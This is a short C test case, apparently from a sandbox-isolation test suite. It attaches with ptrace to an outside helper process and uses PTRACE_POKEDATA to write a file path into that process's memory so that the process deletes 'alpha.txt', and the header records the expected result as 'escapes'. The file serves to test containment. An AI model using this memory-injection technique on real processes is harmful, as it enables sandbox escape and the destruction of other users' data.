// what: ptrace of a process outside: an order to delete is poked into its memory
// target: home/tree/data/alpha.txt
// expect: escapes
// outside: victim.py

#include "common.h"

int main(void) {
    start();
    pid_t p = atoi(getenv("HELPER_PID")); char o[PATH_MAX] = {0}; strcpy(o, at("TREE", ALPHA));
    unsigned long a = strtoul(getenv("HELPER_ADDR"), 0, 16); int s;
    if (say("attach", ptrace(PTRACE_ATTACH, p, 0, 0))) { if (say("seize", ptrace(PTRACE_SEIZE, p, 0, 0))) return 1; ptrace(PTRACE_INTERRUPT, p, 0, 0); }
    waitpid(p, &s, 0);
    for (int i = strlen(o) / 8; i >= 0; i--) ptrace(PTRACE_POKEDATA, p, a + 8 * i, *(long *)(o + 8 * i));
    ptrace(PTRACE_DETACH, p, 0, 0); usleep(100000);
}
